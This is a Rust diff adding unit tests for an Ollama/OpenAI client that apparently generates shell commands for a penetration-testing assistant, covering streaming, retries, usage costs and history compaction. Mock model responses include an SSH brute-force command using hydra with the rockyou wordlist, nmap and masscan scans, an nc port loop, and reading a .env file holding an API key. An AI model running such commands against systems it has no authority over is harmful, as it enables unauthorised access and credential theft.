+        let response = client.stream_response("show the file", None).await.unwrap().into_response().await.unwrap();
+        assert_eq!(response.text, "cat caf\u{e9}.txt");
+    }
+    
+    #[tokio::test]
+    async fn test_session_cost_from_response_token_counts() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"gpt-4o","response":"id","done":true,"prompt_eval_count":1500,"eval_count":500}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .model("gpt-4o")
+            .model_cost("gpt-4o", ModelCost { input_per_1k: 0.01, output_per_1k: 0.03 })
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        client.generate_command("who am i", &[]).await.unwrap();
+        client.clone().generate_command("who am i", &[]).await.unwrap();
+        
+        let breakdown = client.usage_breakdown();
+        assert_eq!(breakdown[0].1, TokenUsage { input_tokens: 3000, output_tokens: 1000 });
+        assert!((client.session_cost() - 0.06).abs() < 1e-9);
+    }
+    
+    #[tokio::test]
+    async fn test_openai_backend_usage_and_cancellation() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/v1/chat/completions")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"stream":false}"#.to_string()))
+            .with_body(r#"{"choices":[{"message":{"content":"id"},"finish_reason":"stop"}],"usage":{"prompt_tokens":1500,"completion_tokens":500}}"#)
+            .create_async()
+            .await;
+        let _stream = server.mock("POST", "/v1/chat/completions")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"stream":true}"#.to_string()))
+            .with_chunked_body(|w| {
+                w.write_all(b"data: {\"choices\":[{\"delta\":{\"content\":\"id\"}}]}\n\n")?;
+                std::thread::sleep(Duration::from_secs(2));
+                w.write_all(b"data: [DONE]\n\n")
+            })
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .api_format(ApiFormat::OpenAi)
+            .model("gpt-4o")
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        client.generate_command("who am i", &[]).await.unwrap();
+        assert_eq!(client.usage_breakdown()[0].1, TokenUsage { input_tokens: 1500, output_tokens: 500 });
+        
+        let stream = client.stream_response("who am i", None).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        let start = std::time::Instant::now();
+        client.abort_all();
+        let err = stream.into_final().await.unwrap_err();
+        assert!(err.to_string().contains("aborted"));
+        assert!(start.elapsed() < Duration::from_secs(1));
+    }
+    
+    #[tokio::test]
+    async fn test_generated_command_metadata() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"test","response":"```bash\nhydra -l admin -P rockyou.txt ssh://10.0.0.1\n```","done":true,"prompt_eval_count":120,"eval_count":18,"eval_duration":450000000}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("llama3", false).model("llama3:8b").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let generated = client.generate_command_detailed("brute force ssh", &[]).await.unwrap();
+        assert_eq!(generated.command, "hydra -l admin -P rockyou.txt ssh://10.0.0.1");
+        assert_eq!(generated.raw, "```bash\nhydra -l admin -P rockyou.txt ssh://10.0.0.1\n```");
+        assert_eq!(generated.model(), "llama3:8b");
+        assert_eq!(generated.usage, Some(TokenUsage { input_tokens: 120, output_tokens: 18 }));
+        assert_eq!(generated.risk.level, RiskLevel::Caution);
+        assert!(generated.elapsed > Duration::ZERO);
+        
+        let stats = generated.stats().unwrap();
+        assert_eq!(stats.prompt_tokens, 120);
+        assert_eq!(stats.eval_duration, Some(Duration::from_millis(450)));
+        assert_eq!(stats.tokens_per_sec(), Some(40.0));
+        
+        assert_eq!(client.generate_command("brute force ssh", &[]).await.unwrap(), generated.command);
+        let (command, stats) = client.generate_command_with_stats("brute force ssh", &[]).await.unwrap();
+        assert_eq!(command, generated.command);
+        assert_eq!(stats.unwrap().tokens_generated, 18);
+    }
+    
+    #[tokio::test]
+    async fn test_output_format_is_requested() {
+        let mut server = mockito::Server::new_async().await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("make it write XML to stdout".to_string()))
+            .with_body(r#"{"model":"test","response":"nmap -sV 10.0.0.1","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).output_format(ToolOutputFormat::Xml).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let generated = client.generate_command_detailed("scan services on 10.0.0.1", &[]).await.unwrap();
+        assert_eq!(generated.command, "nmap -oX - -sV 10.0.0.1");
+        generate.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_generate_alternative_is_temporary() {
+        let mut server = mockito::Server::new_async().await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::AllOf(vec![
+                mockito::Matcher::PartialJsonString(r#"{"options":{"temperature":0.9}}"#.to_string()),
+                mockito::Matcher::Regex("previous suggestion was `nmap -sS 10.0.0.1`".to_string()),
+            ]))
+            .with_body(r#"{"model":"test","response":"masscan -p1-65535 10.0.0.1","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).temperature(0.3).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let generated = client.generate_alternative("scan all ports", "nmap -sS 10.0.0.1", &[]).await.unwrap();
+        assert_eq!(generated.command, "masscan -p1-65535 10.0.0.1");
+        assert_eq!(client.config.temperature, Some(0.3));
+        assert!(!client.config.adaptive_temperature);
+        generate.assert_async().await;
+    }
+    
+    #[test]
+    fn test_normalize_output() {
+        let output = "kali@kali:~$ nmap -p 22 10.0.0.1  \n\n\nStarting Nmap 7.94\n\n\n\n22/tcp open ssh   \n# Nmap done\n$\n\n";
+        assert_eq!(normalize_output(output), "Starting Nmap 7.94\n\n22/tcp open ssh\n# Nmap done");
+        
+        let kali = "┌──(kali㉿kali)-[~]\n└─$ id\nuid=1000(kali) gid=1000(kali)\nroot@box:/tmp# \n";
+        assert_eq!(normalize_output(kali), "uid=1000(kali) gid=1000(kali)");
+        
+        // Output that merely contains @ or # is left alone
+        let mail = "admin@example.com\n#include <stdio.h>";
+        assert_eq!(normalize_output(mail), mail);
+    }
+    
+    #[tokio::test]
+    async fn test_truncated_command_is_continued() {
+        let mut server = mockito::Server::new_async().await;
+        let first = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"test","response":"for port in 22 80 443","done":true,"done_reason":"length"}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        let rest = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("cut off by the length limit".to_string()))
+            .with_body(r#"{"model":"test","response":"; do nc -zv host $port; done","done":true,"done_reason":"stop"}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let generated = client.generate_command_detailed("check common ports", &[]).await.unwrap();
+        assert_eq!(generated.command, "for port in 22 80 443; do nc -zv host $port; done");
+        assert!(!generated.truncated);
+        assert_eq!(generated.done_reason, Some(DoneReason::Stop));
+        first.assert_async().await;
+        rest.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_auto_num_ctx_from_model_info() {
+        let mut server = mockito::Server::new_async().await;
+        let show = server.mock("POST", "/api/show")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"llama3:8b"}"#.to_string()))
+            .with_body(r#"{"model_info":{"general.architecture":"llama","llama.context_length":131072}}"#)
+            .expect(2)
+            .create_async()
+            .await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"options":{"num_ctx":16384}}"#.to_string()))
+            .with_body(r#"{"model":"llama3:8b","response":"ls -la","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("llama3", false).model("llama3:8b").build().unwrap();
+        let mut client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.model_context_length("llama3:8b").await.unwrap(), Some(131_072));
+        assert_eq!(client.auto_num_ctx().await.unwrap(), MAX_AUTO_NUM_CTX);
+        assert_eq!(client.generate_command("list files", &[]).await.unwrap(), "ls -la");
+        show.assert_async().await;
+        generate.assert_async().await;
+        
+        // Models without a declared length get the conservative default
+        server.reset();
+        server.mock("POST", "/api/show")
+            .with_body(r#"{"model_info":{"general.architecture":"llama"}}"#)
+            .create_async()
+            .await;
+        assert_eq!(client.auto_num_ctx().await.unwrap(), FALLBACK_NUM_CTX);
+    }
+    
+    #[tokio::test]
+    async fn test_transient_failures_are_retried() {
+        let mut server = mockito::Server::new_async().await;
+        let busy = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("list files".to_string()))
+            .with_status(503)
+            .with_body(r#"{"error":"server busy, please try again"}"#)
+            .expect(2)
+            .create_async()
+            .await;
+        let ready = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("list files".to_string()))
+            .with_body(r#"{"model":"test","response":"ls -la","done":true}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        let missing = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("read a file".to_string()))
+            .with_status(404)
+            .with_body(r#"{"error":"model 'test' not found"}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).retry_base_delay_ms(10).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.generate_command("list files", &[]).await.unwrap(), "ls -la");
+        busy.assert_async().await;
+        ready.assert_async().await;
+        
+        // Client errors fail straight away
+        assert!(client.generate_command("read a file", &[]).await.is_err());
+        missing.assert_async().await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).max_retries(1).retry_base_delay_ms(10).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let _still_busy = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("scan ports".to_string()))
+            .with_status(503)
+            .with_body(r#"{"error":"server busy"}"#)
+            .create_async()
+            .await;
+        let error = client.generate_command("scan ports", &[]).await.unwrap_err();
+        assert_eq!(error.to_string(), "Gave up after 1 retries");
+        assert_eq!(error.downcast_ref::<ApiError>().map(|e| e.status), Some(503));
+    }
+    
+    #[tokio::test]
+    async fn test_unreachable_host_fails_fast() {
+        // Bind and drop a listener to find a port nothing is listening on
+        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+        
+        let config = OllamaConfig::builder()
+            .api_url(&format!("http://127.0.0.1:{}", port))
+            .connect_timeout_secs(1)
+            .request_timeout_secs(300)
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let start = std::time::Instant::now();
+        assert!(client.generate_command("list files", &[]).await.is_err());
+        assert!(start.elapsed() < Duration::from_secs(5));
+    }
+    
+    #[tokio::test]
+    async fn test_compact_history() {
+        let mut server = mockito::Server::new_async().await;
+        let summarize = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("Step 3: request 3".to_string()))
+            .with_body(r#"{"model":"test","response":"- 10.0.0.1 has ssh and http open","done":true}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).compact_history(1_000).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let mut history: Vec<HistoryItem> = (1..=6)
+            .map(|i| HistoryItem {
+                user_input: format!("request {}", i),
+                command: format!("command {}", i),
+                result: "x".repeat(300),
+                ..Default::default()
+            })
+            .collect();
+        
+        assert!(client.compact_history(&mut history).await.unwrap());
+        assert_eq!(history.len(), 1 + COMPACT_KEEP_RECENT);
+        assert_eq!(history[0].user_input, SESSION_SUMMARY_INPUT);
+        assert_eq!(history[0].result, "- 10.0.0.1 has ssh and http open");
+        assert_eq!(history[1].user_input, "request 4");
+        
+        // Now under the threshold, so nothing more is summarized
+        assert!(!client.compact_history(&mut history).await.unwrap());
+        summarize.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_queued_requests_share_the_backend() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"test","response":"ls -la","done":true}"#)
+            .create_async()
+            .await;
+        
+        let mut client = OllamaClient::with_config(OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).build().unwrap()).unwrap();
+        client.set_request_queue(RequestQueue::new());
+        
+        // A finished stream hands the backend back, and background work still gets its turn
+        let streamed = client.stream_response("list files", None).await.unwrap().into_final().await.unwrap();
+        assert_eq!(streamed, "ls -la");
+        let background_client = client.in_background();
+        let (interactive, background) = tokio::join!(
+            client.generate_command("list files", &[]),
+            background_client.generate_command("list files", &[]),
+        );
+        assert_eq!(interactive.unwrap(), "ls -la");
+        assert_eq!(background.unwrap(), "ls -la");
+    }
+    
+    #[tokio::test]
+    async fn test_summarized_history_is_redacted() {
+        let mut server = mockito::Server::new_async().await;
+        let summarize = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r"API_KEY=\[REDACTED\]".to_string()))
+            .with_body(r#"{"model":"test","response":"- found an API key in .env","done":true}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        
+        let client = OllamaClient::with_config(OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).build().unwrap()).unwrap();
+        let history = [HistoryItem {
+            user_input: "read the env file".to_string(),
+            command: "cat .env".to_string(),
+            result: "API_KEY=sk-live-1234567890".to_string(),
+            ..Default::default()
+        }];
+        
+        client.summarize_history(&history).await.unwrap();
+        summarize.assert_async().await;
     }
-
-    /// Generate a response with a timeout
-    async fn generate_with_timeout(&self, prompt: &str, system: Option<&str>) -> Result<String> {
-        let request = OllamaRequest {
-            model: self.config.model.clone(),
-            prompt: prompt.to_string(),
-            system: system.map(ToString::to_string),
-            // Explicitly set stream to false to get a complete response
-            stream: Some(false),
-            options: Some(OllamaOptions {
-                temperature: self.config.temperature,
-                top_p: Some(0.9),
-                top_k: None,
-                max_tokens: Some(self.config.max_tokens),
-            }),
-        };
-
-        let url = format!("{}/api/generate", self.config.api_url);
-        debug!("Sending request to Ollama API: {}", url);
-        
-        // Execute with timeout
-        let timeout_duration = Duration::from_secs(self.config.timeout_secs);
-        let response_future = self.client
-            .post(&url)
-            .json(&request)
-            .send();
-            
-        let response = timeout(timeout_duration, response_future)
-            .await
-            .context("Request to Ollama API timed out")?
-            .context("Failed to send request to Ollama API")?;
-            
-        if !response.status().is_success() {
-            let error_text = response.text().await
-                .context("Failed to read error response from Ollama API")?;
-            anyhow::bail!("Ollama API error: {}", error_text);
+    
+    #[tokio::test]
+    async fn test_stream_ends_with_done() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(concat!(
+                r#"{"model":"test","response":"ls","done":false}"#, "\n",
+                r#"{"model":"test","response":" -la","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"stop"}"#, "\n",
+            ))
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let mut stream = client.stream_response("list files", None).await.unwrap();
+        let mut chunks = Vec::new();
+        while let Some(chunk) = stream.receiver.recv().await {
+            chunks.push(chunk);
         }
-
-        // Get the response text
-        let response_text = response.text().await
-            .context("Failed to read response from Ollama API")?;
         
-        debug!("Received response from Ollama API: {}", response_text);
+        assert_eq!(chunks.first(), Some(&StreamChunk::Token("ls".to_string())));
+        assert_eq!(chunks.last(), Some(&StreamChunk::Done));
+        assert_eq!(stream.final_response.lock().unwrap().as_deref(), Some("ls -la"));
+        assert!(stream.timings.is_none());
+    }
+    
+    #[tokio::test]
+    async fn test_concise_explanation_uses_short_prompt_and_stops() {
+        let mut server = mockito::Server::new_async().await;
+        let concise = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::AllOf(vec![
+                mockito::Matcher::Regex("Summarize in 2-3 plain sentences".to_string()),
+                mockito::Matcher::PartialJsonString(r#"{"options":{"num_predict":150,"stop":["\n\n","\n-","\n1."]}}"#.to_string()),
+            ]))
+            .with_body(r#"{"model":"test","response":"Lists listening TCP and UDP sockets.","done":true}"#)
+            .create_async()
+            .await;
+        let detailed = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("Explain in detail what this command does".to_string()))
+            .with_body(r#"{"model":"test","response":"1. ss shows sockets","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).concise_explanations(true).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert!(client.concise_explanations());
         
-        // Parse the response
-        let ollama_response: OllamaResponse = serde_json::from_str(&response_text)
-            .context("Failed to parse response from Ollama API")?;
-
-        Ok(ollama_response.response.trim().to_string())
+        let short = client.stream_explanation("ss -tuln", true).await.unwrap().into_final().await.unwrap();
+        assert_eq!(short, "Lists listening TCP and UDP sockets.");
+        let long = client.stream_explanation("ss -tuln", false).await.unwrap().into_final().await.unwrap();
+        assert_eq!(long, "1. ss shows sockets");
+        concise.assert_async().await;
+        detailed.assert_async().await;
     }
     
-    /// Clean and format command response from LLM
-    fn clean_command_response(&self, response: &str) -> String {
-        // Remove code block markers and leading/trailing whitespace
-        let mut cleaned = response.trim().to_string();
+    #[tokio::test]
+    async fn test_generate_command_streaming() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"stream":true}"#.to_string()))
+            .with_body(concat!(
+                r#"{"model":"test","response":"```bash\nnmap -sV \\\n","done":false}"#, "\n",
+                r#"{"model":"test","response":"  10.0.0.1\n```","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"stop"}"#, "\n",
+            ))
+            .create_async()
+            .await;
         
-        // Remove markdown code formatting if present
-        if cleaned.starts_with("```") && cleaned.ends_with("```") {
-            // Find the first newline
-            if let Some(start_pos) = cleaned.find('\n') {
-                // Find the last newline before the final ```
-                if let Some(end_pos) = cleaned.rfind('\n') {
-                    cleaned = cleaned[start_pos+1..end_pos].trim().to_string();
-                }
+        let config = OllamaConfig::builder().api_url(&server.url()).model("test").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let mut streamed = String::new();
+        let generated = client
+            .generate_command_with_preview("scan versions", &[], |token| streamed.push_str(token))
+            .await
+            .unwrap();
+        
+        // The preview shows the response as written; the result is the cleaned command
+        assert_eq!(streamed, "```bash\nnmap -sV \\\n  10.0.0.1\n```");
+        assert_eq!(generated.raw, streamed);
+        assert_eq!(generated.command, "nmap -sV 10.0.0.1");
+        assert_eq!(generated.model(), "test");
+        assert_eq!(generated.done_reason, Some(DoneReason::Stop));
+        assert!(!generated.truncated);
+        
+        // The plain stream gives the raw response, cleaned by the caller
+        let stream = client.generate_command_streaming("scan versions", &[]).await.unwrap();
+        let raw = stream.into_final().await.unwrap();
+        assert_eq!(client.finish_command(&raw), "nmap -sV 10.0.0.1");
+    }
+    
+    #[tokio::test]
+    async fn test_streamed_command_reports_truncation() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(concat!(
+                r#"{"model":"test","response":"nmap -sV -p","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"length","prompt_eval_count":40,"eval_count":5,"eval_duration":250000000}"#, "\n",
+            ))
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).model("test").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let generated = client.generate_command_with_preview("scan versions", &[], |_| {}).await.unwrap();
+        assert!(generated.truncated);
+        assert_eq!(generated.done_reason, Some(DoneReason::Length));
+        assert_eq!(generated.usage, Some(TokenUsage { input_tokens: 40, output_tokens: 5 }));
+        assert_eq!(generated.eval_duration, Some(Duration::from_millis(250)));
+    }
+    
+    #[tokio::test]
+    async fn test_stream_timings() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(concat!(
+                r#"{"model":"test","response":"ls","done":false}"#, "\n",
+                r#"{"model":"test","response":" -la","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"stop"}"#, "\n",
+            ))
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).stream_timings(true).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let stream = client.stream_response("list files", None).await.unwrap();
+        let timings = stream.timings.clone().unwrap();
+        stream.into_final().await.unwrap();
+        
+        // The empty closing chunk is not counted
+        let timings = timings.lock().unwrap().clone();
+        assert_eq!(timings.chunks.len(), 2);
+        assert!(timings.time_to_first_token().unwrap() <= timings.chunks[1]);
+        
+        // Streams from other backends are timed the same way
+        let _completions = server.mock("POST", "/v1/chat/completions")
+            .with_body(concat!(
+                "data: {\"choices\":[{\"delta\":{\"content\":\"ls\"}}]}\n\n",
+                "data: {\"choices\":[{\"delta\":{\"content\":\" -la\"}}]}\n\n",
+                "data: [DONE]\n\n",
+            ))
+            .create_async()
+            .await;
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .api_format(ApiFormat::OpenAi)
+            .stream_timings(true)
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let stream = client.stream_response("list files", None).await.unwrap();
+        let timings = stream.timings.clone().unwrap();
+        assert_eq!(stream.into_final().await.unwrap(), "ls -la");
+        assert_eq!(timings.lock().unwrap().chunks.len(), 2);
+        
+        let steady = StreamTimings {
+            chunks: vec![Duration::from_millis(400), Duration::from_millis(500), Duration::from_millis(600)],
+        };
+        assert_eq!(steady.tokens_per_sec(), Some(10.0));
+        assert_eq!(steady.to_string(), "first token after 400 ms, 10.0 tokens/s");
+        assert_eq!(StreamTimings::default().to_string(), "no output");
+    }
+    
+    #[tokio::test]
+    async fn test_stream_into_final() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(concat!(
+                r#"{"model":"test","response":"whoami","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"stop"}"#, "\n",
+            ))
+            .create_async()
+            .await;
+        let _failing = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"prompt":"fail"}"#.to_string()))
+            .with_status(500)
+            .with_body("model not found")
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        // Works after draining the stream, and without reading it at all
+        let mut stream = client.stream_response("current user", None).await.unwrap();
+        while stream.receiver.recv().await.is_some() {}
+        assert_eq!(stream.into_final().await.unwrap(), "whoami");
+        
+        let stream = client.stream_response("current user", None).await.unwrap();
+        assert_eq!(stream.into_final().await.unwrap(), "whoami");
+        
+        let stream = client.stream_response("fail", None).await.unwrap();
+        let err = stream.into_final().await.unwrap_err();
+        assert!(err.to_string().contains("model not found"));
+    }
+    
+    #[tokio::test]
+    async fn test_stream_stops_when_receiver_dropped() {
+        // Far more chunks than the channel holds, so the task must notice nobody is reading
+        let body: String = (0..1_000)
+            .map(|i| format!("{{\"model\":\"test\",\"response\":\"token{} \",\"done\":false}}\n", i))
+            .collect();
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(body)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let StreamingResponse { receiver, completion, .. } = client.stream_response("count", None).await.unwrap();
+        drop(receiver);
+        let outcome = tokio::time::timeout(Duration::from_secs(5), completion).await
+            .expect("stream task kept running after the receiver was dropped")
+            .unwrap();
+        assert_eq!(outcome, Err(RECEIVER_DROPPED_MESSAGE.to_string()));
+    }
+    
+    #[tokio::test]
+    async fn test_paced_stream_meters_bursts() {
+        let (tx, receiver) = mpsc::channel(10);
+        let (_done_tx, completion) = oneshot::channel();
+        let stream = StreamingResponse {
+            receiver,
+            final_response: Arc::new(Mutex::new(None)),
+            timings: None,
+            completion,
+        };
+        
+        // The whole response arrives in one burst
+        tx.send(StreamChunk::Token("hello world".to_string())).await.unwrap();
+        tx.send(StreamChunk::Done).await.unwrap();
+        drop(tx);
+        
+        let mut paced = stream.paced(1000);
+        let mut text = String::new();
+        let mut tokens = 0;
+        let mut last = None;
+        while let Some(chunk) = paced.receiver.recv().await {
+            if let StreamChunk::Token(t) = &chunk {
+                text.push_str(t);
+                tokens += 1;
             }
-        } else if cleaned.starts_with('`') && cleaned.ends_with('`') {
-            cleaned = cleaned[1..cleaned.len()-1].trim().to_string();
+            last = Some(chunk);
         }
         
-        // Remove any "sh", "bash", or "shell" language specifiers at the beginning
-        let language_prefixes = ["sh ", "bash ", "shell "];
-        for prefix in language_prefixes.iter() {
-            if cleaned.starts_with(prefix) {
-                cleaned = cleaned[prefix.len()..].to_string();
-                break;
+        assert_eq!(text, "hello world");
+        assert_eq!(tokens, 11);
+        assert_eq!(last, Some(StreamChunk::Done));
+    }
+    
+    /// The error chunk a stream from `client` ends with
+    async fn stream_error(client: &OllamaClient) -> Option<StreamError> {
+        let mut stream = client.stream_response("list files", None).await.unwrap();
+        let mut error = None;
+        while let Some(chunk) = stream.receiver.recv().await {
+            if let StreamChunk::Error(e) = chunk {
+                error = Some(e);
             }
         }
+        error
+    }
+    
+    #[tokio::test]
+    async fn test_stream_errors_are_typed() {
+        // Nothing listens on port 1
+        let config = OllamaConfig { api_url: "http://127.0.0.1:1".to_string(), ..OllamaConfig::default() };
+        let error = stream_error(&OllamaClient::with_config(config).unwrap()).await.unwrap();
+        assert!(matches!(error, StreamError::Connect(_)));
+        assert!(error.is_recoverable());
         
-        cleaned.trim().to_string()
+        let mut server = mockito::Server::new_async().await;
+        let _missing = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"missing:7b"}"#.to_string()))
+            .with_status(404)
+            .with_body(r#"{"error":"model 'missing:7b' not found"}"#)
+            .create_async()
+            .await;
+        let _dropped = server.mock("POST", "/api/generate")
+            .with_chunked_body(|w| {
+                w.write_all(concat!(r#"{"model":"test","response":"ls","done":false}"#, "\n").as_bytes())?;
+                // Let the headers and first chunk go out, so the drop happens mid-stream
+                std::thread::sleep(Duration::from_millis(100));
+                Err(std::io::Error::new(std::io::ErrorKind::ConnectionReset, "connection reset"))
+            })
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), model: "missing:7b".to_string(), ..OllamaConfig::default() };
+        let error = stream_error(&OllamaClient::with_config(config).unwrap()).await.unwrap();
+        assert_eq!(error, StreamError::Api("Ollama API error (404): model 'missing:7b' not found".to_string()));
+        assert!(!error.is_recoverable());
+        
+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let error = stream_error(&OllamaClient::with_config(config).unwrap()).await.unwrap();
+        assert!(matches!(error, StreamError::MidStream(_)));
+        assert!(error.is_recoverable());
     }
-
-    /// Get a list of all locally available models from Ollama
-    pub async fn get_available_models(&self) -> Result<Vec<String>> {
-        let url = format!("{}/api/tags", self.config.api_url);
+    
+    #[tokio::test]
+    async fn test_model_checks_use_configured_host() {
+        let mut server = mockito::Server::new_async().await;
+        let tags = server.mock("GET", "/api/tags")
+            .with_body(r#"{"models":[{"name":"llama3:latest"}]}"#)
+            .expect_at_least(4)
+            .create_async()
+            .await;
+        let pull = server.mock("POST", "/api/pull")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"name":"gemma3:12b"}"#.to_string()))
+            .with_body(r#"{"status":"success"}"#)
+            .create_async()
+            .await;
         
-        let response = self.client.get(&url)
-            .timeout(Duration::from_secs(self.config.timeout_secs))
-            .send()
-            .await
-            .context("Failed to connect to Ollama API")?;
+        let client = OllamaClient::with_config(OllamaConfig { api_url: server.url(), ..OllamaConfig::default() }).unwrap();
+        assert!(client.check_available().await);
+        assert!(client.validate_model("llama3:latest").await.unwrap());
+        assert!(!client.validate_model("gemma3:12b").await.unwrap());
+        assert!(!client.pull_model("gemma3:12b").await.unwrap());
         
-        if !response.status().is_success() {
-            let error_text = response.text().await.unwrap_or_else(|_| "Unknown error".to_string());
-            return Err(anyhow::anyhow!("Ollama API error: {}", error_text));
-        }
+        tags.assert_async().await;
+        pull.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_pull_status_and_resume() {
+        let mut server = mockito::Server::new_async().await;
+        let _tags = server.mock("GET", "/api/tags")
+            .with_body(r#"{"models":[{"name":"llama3:latest"}]}"#)
+            .create_async()
+            .await;
+        let pull = server.mock("POST", "/api/pull")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"name":"gemma3:12b"}"#.to_string()))
+            .with_body(concat!(
+                r#"{"status":"pulling manifest"}"#, "\n",
+                r#"{"status":"pulling a2af6cc3","digest":"sha256:a2af6cc3","total":100,"completed":40}"#, "\n",
+                r#"{"status":"pulling a2af6cc3","digest":"sha256:a2af6cc3","total":100,"completed":100}"#, "\n",
+                r#"{"status":"success"}"#, "\n",
+            ))
+            .create_async()
+            .await;
         
-        #[derive(Deserialize)]
-        struct ModelResponse {
-            models: Vec<ModelData>,
-        }
